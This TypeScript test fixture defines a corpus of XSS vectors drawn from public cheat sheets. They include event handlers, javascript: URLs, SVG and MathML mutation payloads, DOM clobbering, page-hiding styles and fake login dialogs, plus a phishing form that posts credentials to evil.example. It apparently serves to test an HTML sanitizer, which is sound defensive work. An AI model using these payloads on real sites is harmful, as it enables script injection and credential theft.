/**
 * The XSS corpus: server HTML that tries to run a script, restyle the
 * page, pose as a form of ours or send the member elsewhere. Each vector, if it ever ran, calls
 * `alert` (replaced in the tests by a flag, `window.__xss = 1`, and a console marker) or sets
 * the flag itself. Sources: the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat
 * sheet, and the published DOMPurify mutation-XSS bypasses.
 */
export interface XssVector {
  name: string;
  html: string;
}

/** What a vector runs: through `alert`, which the tests replace in every frame. */
const RUN = 'alert(1)';
/** The same, written so that no quote is needed inside an attribute. */
const FLAG = 'top.__xss=1';

const ENCODED_SCRIPT = 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='; // <script>alert(1)</script>

export const XSS_VECTORS: readonly XssVector[] = [
  // Script elements.
  { name: 'script', html: `<script>${RUN}</script>` },
  {
    name: 'script, upper case, data: src',
    html: `<SCRIPT SRC=data:text/javascript,${RUN}></SCRIPT>`,
  },
  { name: 'script split by a nested script', html: `<scr<script>ipt>${RUN}</scr</script>ipt>` },
  { name: 'attribute break-out then script', html: `"><script>${RUN}</script>` },
  { name: 'title break-out then script', html: `</title><script>${RUN}</script>` },
  { name: 'template holding a script', html: `<template><script>${RUN}</script></template>` },

  // Event handlers.
  { name: 'img onerror', html: `<img src=x onerror=${RUN}>` },
  { name: 'img onerror setting the flag', html: `<img src="x" onerror="${FLAG}">` },
  { name: 'img onerror, mixed case', html: `<IMG SRC=x OnErRoR=${RUN}>` },
  { name: 'img onerror, slashes for spaces', html: `<img/src/onerror=${RUN}>` },
  {
    name: 'img onerror, entity-encoded code',
    html: '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
  },
  {
    name: 'img onerror, eval of its own src',
    html: '<img src=x:alert(alt) onerror=eval(src) alt=1>',
  },
  { name: 'img onerror, backtick quotes', html: `<img src=\`x\` onerror=${RUN}>` },
  { name: 'body onload', html: `<body onload=${RUN}>` },
  { name: 'svg onload', html: `<svg onload=${RUN}>` },
  { name: 'svg/onload', html: `<svg/onload=${RUN}>` },
  { name: 'div onmouseover', html: `<div onmouseover="${RUN}">survolez-moi</div>` },
  { name: 'a onclick', html: `<a href="#" onclick="${RUN}">cliquez</a>` },
  { name: 'input autofocus onfocus', html: `<input autofocus onfocus=${RUN}>` },
  { name: 'select autofocus onfocus', html: `<select autofocus onfocus=${RUN}></select>` },
  { name: 'textarea autofocus onfocus', html: `<textarea autofocus onfocus=${RUN}></textarea>` },
  {
    name: 'contenteditable autofocus onfocus',
    html: `<div contenteditable autofocus onfocus=${RUN}>x</div>`,
  },
  {
    name: 'details ontoggle',
    html: `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  },
  { name: 'video source onerror', html: `<video><source onerror=${RUN}></video>` },
  { name: 'audio onerror', html: `<audio src=x onerror=${RUN}></audio>` },
  { name: 'iframe onload', html: `<iframe onload=${RUN}></iframe>` },
  { name: 'marquee onstart', html: `<marquee onstart=${RUN}>x</marquee>` },
  {
    name: 'animation onanimationstart',
    html: `<div style="animation:spinner-border 1s" onanimationstart=${RUN}>x</div>`,
  },
  { name: 'unknown element onclick', html: `<x-custom onclick=${RUN}>x</x-custom>` },
  { name: 'isindex onerror', html: `<isindex type=image src=1 onerror=${RUN}>` },
  { name: 'onerror with a JavaScript escape', html: '<img src=x onerror="\\u0061lert(1)">' },

  // javascript: and data: URLs in href, src, action, formaction.
  { name: 'a href javascript:', html: `<a href="javascript:${RUN}">lien</a>` },
  { name: 'a href javascript:, mixed case', html: `<a href="JaVaScRiPt:${RUN}">lien</a>` },
  { name: 'a href javascript:, leading space', html: `<a href=" javascript:${RUN}">lien</a>` },
  {
    name: 'a href javascript:, first letter as an entity',
    html: `<a href="&#106;avascript:${RUN}">lien</a>`,
  },
  {
    name: 'a href javascript:, tab entity inside',
    html: `<a href="java&#x09;script:${RUN}">lien</a>`,
  },
  {
    name: 'a href javascript:, newline entity inside',
    html: `<a href="jav&#x0A;ascript:${RUN}">lien</a>`,
  },
  { name: 'a href javascript:, &colon;', html: `<a href="javascript&colon;${RUN}">lien</a>` },
  {
    name: 'a href javascript:, &NewLine; before',
    html: `<a href="&NewLine;javascript&colon;${RUN}">lien</a>`,
  },
  {
    name: 'a href javascript:, all hexadecimal entities',
    html: '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">lien</a>',
  },
  {
    name: 'a href javascript:, zero-padded decimal entities without semicolons',
    html: '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">lien</a>',
  },
  { name: 'a href vbscript:', html: '<a href="vbscript:msgbox(1)">lien</a>' },
  {
    name: 'a href data:text/html',
    html: `<a href="data:text/html;base64,${ENCODED_SCRIPT}">lien</a>`,
  },
  { name: 'img src javascript:', html: `<img src="javascript:${RUN}">` },
  { name: 'iframe src javascript:', html: `<iframe src="javascript:${RUN}"></iframe>` },
  {
    name: 'iframe src data:text/html',
    html: `<iframe src="data:text/html,<script>${RUN}</script>"></iframe>`,
  },
  {
    name: 'form action javascript:',
    html: `<form action="javascript:${RUN}"><input type=submit value=Envoyer></form>`,
  },
  {
    name: 'button formaction javascript:',
    html: `<button formaction="javascript:${RUN}">Envoyer</button>`,
  },
  {
    name: 'input formaction javascript:',
    html: `<input type=submit formaction="javascript:${RUN}" value=Envoyer>`,
  },

  // SVG.
  { name: 'svg script', html: `<svg><script>${RUN}</script></svg>` },
  { name: 'svg script href data:', html: `<svg><script href="data:,${RUN}"></script></svg>` },
  {
    name: 'svg a xlink:href javascript:',
    html: `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>XSS</text></a></svg>`,
  },
  {
    name: 'svg animate sets href',
    html: `<svg><a><animate attributeName=href values=javascript:${RUN} /><text x=20 y=20>XSS</text></a></svg>`,
  },
  {
    name: 'svg set sets href',
    html: `<svg><a><set attributeName=href to=javascript:${RUN} /><text x=20 y=20>XSS</text></a></svg>`,
  },
  {
    name: 'svg animate onbegin',
    html: `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  },
  {
    name: 'svg foreignObject iframe srcdoc',
    html: `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  },
  { name: 'svg image onerror', html: `<svg><image href=x onerror=${RUN} /></svg>` },
  {
    name: 'svg use of a data: document',
    html: `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"/></svg>`,
  },

  // MathML.
  {
    name: 'math maction xlink:href javascript:',
    html: `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">clic</maction></math>`,
  },
  { name: 'math href javascript:', html: `<math href="javascript:${RUN}">clic</math>` },
  {
    name: 'math mtext table mglyph style (mutation)',
    html: `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  },
  {
    name: 'math mtext mglyph svg style (mutation)',
    html: `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${RUN}>"></style></h1>`,
  },
  {
    name: 'nested forms in math (mutation)',
    html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  },

  // Mutation XSS: markup that parses differently the second time.
  {
    name: 'noscript title (mutation)',
    html: `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  },
  {
    name: 'svg p style (mutation)',
    html: `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  },
  {
    name: 'noembed title (mutation)',
    html: `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  },
  { name: 'xmp (mutation)', html: `<xmp><img src=x onerror=${RUN}></xmp>` },
  { name: 'iframe text (mutation)', html: `<iframe><img src=x onerror=${RUN}></iframe>` },
  { name: 'textarea text (mutation)', html: `<textarea><img src=x onerror=${RUN}></textarea>` },
  { name: 'comment that ends early (mutation)', html: `<!--><img src=x onerror=${RUN}>-->` },
  { name: 'processing instruction (mutation)', html: `<?xml ><img src=x onerror=${RUN}>?>` },

  // Styles.
  {
    name: 'style element with url(javascript:)',
    html: `<style>body{background:url("javascript:${RUN}")}</style>`,
  },
  { name: 'style element with expression()', html: `<style>*{width:expression(${RUN})}</style>` },
  { name: 'style element hiding the page', html: '<style>body{display:none}</style>' },
  { name: 'style @import', html: "<style>@import 'data:text/css,body{display:none}';</style>" },
  {
    name: 'style= with url(javascript:)',
    html: `<div style="background-image:url(javascript:${RUN})">x</div>`,
  },
  { name: 'style= with expression()', html: `<div style="width:expression(${RUN})">x</div>` },
  {
    name: 'style= covering the page',
    html: '<p style="position:fixed;inset:0;z-index:9999;background:#c00">Session expirée</p>',
  },
  {
    name: 'link rel=stylesheet',
    html: '<link rel="stylesheet" href="data:text/css,body{display:none}">',
  },

  // The app's own classes and globals, worn or shadowed.
  {
    name: 'class posing as a dialog of the app',
    html: '<div class="modal d-block" role="dialog"><div class="modal-dialog"><div class="modal-content">Session expirée : reconnectez-vous</div></div></div>',
  },
  { name: 'id shadowing a global (Stripe)', html: '<img id="Stripe" src="x.png" alt="">' },
  {
    name: 'name clobbering a document method',
    html: '<img name="getElementById" src="x.png" alt="">',
  },

  // Boxes drawn over the page (the top layer), focus and keys taken from it.
  {
    name: 'dialog open drawing a box over the page',
    html: '<dialog open><p>Session expirée : reconnectez-vous</p><a href="https://evil.example/">Se reconnecter</a></dialog>',
  },
  {
    name: 'dialog opened by a command button',
    html: '<button commandfor="user-content-d" command="show-modal">Lire</button><dialog id="d">Session expirée</dialog>',
  },
  {
    name: 'popover shown by a popovertarget link',
    html: '<a href="#" popovertarget="user-content-p" popovertargetaction="show">Lire</a><div popover="manual" id="p">Session expirée : reconnectez-vous</div>',
  },
  {
    name: 'popover="auto" on a paragraph',
    html: '<p popover id="x">Votre mot de passe a expiré</p>',
  },
  {
    name: 'interestfor link showing a popover',
    html: '<a href="/" interestfor="user-content-h">Survolez</a><div popover="hint" id="h">Session expirée</div>',
  },
  {
    name: 'aria-modal hiding the page from a screen reader',
    html: '<div role="dialog" aria-modal="true">Session expirée : reconnectez-vous</div>',
  },
  { name: 'autofocus taking the focus', html: '<div tabindex="0" autofocus>Lisez ceci</div>' },
  {
    name: 'contenteditable posing as a field',
    html: '<p>Mot de passe :</p><div contenteditable="true" autofocus></div>',
  },
  { name: 'tabindex jumping the tab order', html: '<a href="/" tabindex="1">Premier lien</a>' },
  {
    name: 'accesskey taking a shortcut',
    html: '<a href="https://evil.example/" accesskey="t">lien</a>',
  },

  // Forms that pose as ours.
  {
    name: 'form with a password field',
    html: '<form action="https://evil.example/steal" method="post"><label>E-mail <input name="email"></label><label>Mot de passe <input type="password" name="password"></label><button>Se connecter</button></form>',
  },
  {
    name: 'lone password field',
    html: '<input type="password" name="password" placeholder="Mot de passe">',
  },
  {
    name: 'select and textarea',
    html: '<select name="x"><option>1</option></select><textarea name="y"></textarea>',
  },

  // The document around: base, meta.
  { name: 'base href', html: '<base href="https://evil.example/">' },
  {
    name: 'meta refresh to javascript:',
    html: `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  },
  {
    name: 'meta refresh elsewhere',
    html: '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  },
  {
    name: 'meta content security policy',
    html: '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  },

  // srcset.
  {
    name: 'img srcset javascript:',
    html: `<img srcset="javascript:${RUN} 1x" src="x.png" alt="">`,
  },
  {
    name: 'picture source srcset',
    html: `<picture><source srcset="javascript:${RUN}"><img src=x onerror=${RUN}></picture>`,
  },

  // Frames, objects, embeds, imports.
  {
    name: 'iframe srcdoc script',
    html: `<iframe srcdoc="<script>parent.__xss=1;${RUN}</script>"></iframe>`,
  },
  {
    name: 'iframe srcdoc with entities',
    html: `<iframe srcdoc="&lt;img src=x onerror=${RUN}&gt;"></iframe>`,
  },
  { name: 'object data javascript:', html: `<object data="javascript:${RUN}"></object>` },
  {
    name: 'object data data:text/html',
    html: `<object type="text/html" data="data:text/html;base64,${ENCODED_SCRIPT}"></object>`,
  },
  { name: 'object onerror', html: `<object data=x onerror=${RUN}></object>` },
  { name: 'embed src javascript:', html: `<embed src="javascript:${RUN}">` },
  {
    name: 'embed src data:text/html',
    html: `<embed src="data:text/html;base64,${ENCODED_SCRIPT}">`,
  },
  {
    name: 'link rel=import',
    html: `<link rel="import" href="data:text/html,<script>${RUN}</script>">`,
  },
  {
    name: 'link rel=preload onload',
    html: `<link rel="preload" href="x" as="script" onload=${RUN}>`,
  },

  // Entities and text that must stay text.
  { name: 'escaped script stays text', html: `&lt;script&gt;${RUN}&lt;/script&gt;` },
  { name: 'double-escaped img', html: `&amp;lt;img src=x onerror=${RUN}&amp;gt;` },
  { name: 'template expression', html: "<p>{{constructor.constructor('alert(1)')()}}</p>" },

  // Links that leave the app.
  { name: 'external link', html: '<a href="https://www.sdis35.fr/">SDIS 35</a>' },
  {
    name: 'external link asking for target _self',
    html: '<a href="https://evil.example/" target="_self">lien</a>',
  },
  {
    name: 'external link asking for rel=opener',
    html: '<a href="https://evil.example/" target="_blank" rel="opener">lien</a>',
  },
  { name: 'protocol-relative link', html: '<a href="//evil.example/">lien</a>' },
  // An image map: a transparent picture whose areas are links off the app, in the same tab.
  {
    name: 'image map leaving the app',
    html: '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width="2000" height="2000" usemap="#m"><map name="m"><area shape="rect" coords="0,0,2000,2000" href="https://evil.example/"></map>',
  },
  {
    name: 'image map running a script',
    html: `<img src="x" usemap="#j"><map name="j"><area shape="default" href="javascript:${RUN}"></map>`,
  },
];
